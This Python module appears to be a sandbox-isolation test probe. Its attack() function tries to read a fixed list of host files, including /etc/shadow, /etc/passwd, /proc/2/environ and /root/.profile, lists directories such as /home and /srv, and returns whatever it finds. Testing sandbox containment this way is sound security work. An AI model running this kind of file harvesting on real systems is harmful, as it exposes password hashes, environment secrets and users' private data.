"""read files of the host

Breach: the contents of any file that is not part of the runtime. What a process is told of itself by
/proc/self, where a sandbox has that, is not the host's.
"""

import os

PLACES = (
    *("/etc/passwd", "/etc/hostname", "/etc/shadow", "/proc/2/environ", "/proc/2/status"),
    *("/proc/cpuinfo", "/proc/loadavg", "/proc/uptime", "/proc/sys/kernel/hostname", "/proc/sysvipc/shm"),
    *("/proc/self/root/etc/passwd", "/proc/self/root/proc/meminfo", "/sys/kernel/notes"),
    *("/root/.profile", "/var/lib", "/home", "/tmp", "/srv"),
)


def attack(bait: bytes) -> bytes:
    _, folder, file = bait.decode().split("\n")
    found = [got for place in (file, folder, *PLACES) if (got := taken(place))]
    return b" ".join(found)


def taken(place: str) -> bytes:
    try:
        with open(place, "rb") as stream:
            return stream.read(100)
    except OSError:
        try:
            return " ".join(os.listdir(place)).encode()
        except OSError:
            return b""
